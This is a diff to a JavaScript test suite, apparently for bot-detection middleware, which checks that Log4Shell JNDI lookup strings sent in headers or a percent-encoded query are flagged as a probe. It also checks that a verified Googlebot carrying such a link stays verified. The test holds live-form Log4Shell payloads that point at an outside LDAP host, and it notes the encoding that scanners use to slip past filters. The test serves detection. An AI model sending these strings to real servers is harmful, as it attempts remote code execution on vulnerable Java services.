@@ -166,12 +166,15 @@ describe.each(Object.keys(frameworks))('%s', (name) => {
     expect(sink.visits[before]).toMatchObject({ response_status_code: 403, is_blocked: true, decision: { rule: 'deny-verification-failed', action: 'deny', report_only: false } });
   });
 
-  it('names a Log4Shell lookup sprayed over the other headers or the query, behind a browser User-Agent', async () => {
+  it('names a Log4Shell lookup sprayed over the other headers or the query, behind a browser User-Agent; a verified crawler on a planted link stays itself', async () => {
     const sprayed = await get(`${app.url}/page`, BROWSER_UA, { 'x-api-version': '${jndi:ldap://198.51.100.7:1389/a}' });
     expect(await sprayed.json()).toEqual({ result: 'not_verifiable', clientIp: '127.0.0.1', agent: 'probe:log4shell' });
-    // fetch percent-encodes the braces; the server's decoding is what counts.
-    const queried = await get(`${app.url}/page?q=\${jndi:ldap://198.51.100.7:1389/a}`, BROWSER_UA);
+    // Percent-encoded, as a scanner sends it to pass filters: read as the server decodes it.
+    const queried = await get(`${app.url}/page?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%3A1389%2Fa%7D`, BROWSER_UA);
     expect(await queried.json()).toEqual({ result: 'not_verifiable', clientIp: '127.0.0.1', agent: 'probe:log4shell' });
+    // Googlebot following a planted link stays Googlebot, verified by its address.
+    const crawled = await get(`${app.url}/page?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%3A1389%2Fa%7D`, GOOGLEBOT_UA);
+    expect(await crawled.json()).toEqual({ result: 'verified', clientIp: '127.0.0.1', agent: 'googlebot' });
     const plain = await get(`${app.url}/page?q={x}`, BROWSER_UA, { cookie: 'prefs={"a":1}' });
     expect(await plain.json()).toEqual({ result: 'unknown_agent', clientIp: '127.0.0.1', agent: null });
   });
